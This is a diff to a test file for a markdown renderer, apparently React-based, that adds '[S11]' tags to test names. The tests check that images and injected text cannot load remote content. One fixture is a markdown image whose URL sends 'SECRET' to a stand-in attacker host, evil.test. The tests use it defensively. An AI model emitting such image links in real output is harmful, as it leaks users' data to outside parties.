@@ -140,7 +140,7 @@ describe("links", () => {
 describe("pictures", () => {
   const leak = "![cat](https://evil.test/x.png?d=SECRET)";
 
-  test("are words until somebody presses Load; then focus is on the picture", () => {
+  test("[S11] are words until somebody presses Load; then focus is on the picture", () => {
     const { container } = drawn(leak);
     expect(container.textContent).toContain("[image: cat — evil.test]");
     expect(container.querySelector("img")).toBeNull();
@@ -210,7 +210,7 @@ describe("injected text", () => {
   const own = new Set(["class", "dir", "data-level", "data-align", "href", "target", "rel", "type", "tabindex"]);
   const aria = new Set(["role", "aria-label"]);
 
-  test.each(injections)("%j brings no element that asks or runs, and no attribute of its own", (text) => {
+  test.each(injections)("[S11] %j brings no element that asks or runs, and no attribute of its own", (text) => {
     for (const streaming of [false, true]) {
       const { container, unmount } = drawn(text, { streaming });
       expect(container.querySelector(active)).toBeNull();
@@ -220,7 +220,7 @@ describe("injected text", () => {
     }
   });
 
-  test.each(injections)("%j asks for nothing in server-rendered markup", (text) => {
+  test.each(injections)("[S11] %j asks for nothing in server-rendered markup", (text) => {
     const html = renderToString(<Markdown text={text} />);
     expect(html).not.toMatch(/<(?:img|link|script|style|iframe)|style=|preload/);
   });
